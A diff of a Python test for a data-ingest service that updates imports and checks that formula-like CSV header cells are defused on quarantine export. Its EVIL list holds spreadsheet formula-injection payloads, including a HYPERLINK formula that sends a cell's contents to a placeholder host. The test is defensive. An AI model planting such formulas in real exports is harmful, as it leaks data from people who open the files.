@@ -11,9 +11,8 @@ import csv
 import gzip
 from pathlib import Path
 
-from rnu.ingest.quarantine import write_quarantine_csv
-from rnu.ingest.service import load_file, plan_file
 from tests.rnu.ingest.builders import SIS_HEADER, population, write_pgh
+from usecases.loads import load_file, plan_file, write_quarantine
 
 EVIL = ['=HYPERLINK("http://x.example/?"&A1)', "+SUM(1+1)", "-2+3", "@cmd", "\tTAB"]
 
@@ -30,7 +29,7 @@ def test_formula_like_header_cells_are_defused(ingest_db: str, tmp_path: Path) -
     result = asyncio.run(load_file(ingest_db, plan_file(path)))
     assert result.rows_quarantined == 1
     out = tmp_path / "q.csv"
-    assert asyncio.run(write_quarantine_csv(ingest_db, result.batch_id, out)) == 1
+    assert asyncio.run(write_quarantine(ingest_db, result.batch_id, out)) == 1
     with out.open(encoding="utf-8-sig", newline="") as fh:
         header = next(csv.reader(fh))
     extra = [cell for cell in header if cell.lstrip("'") in EVIL]
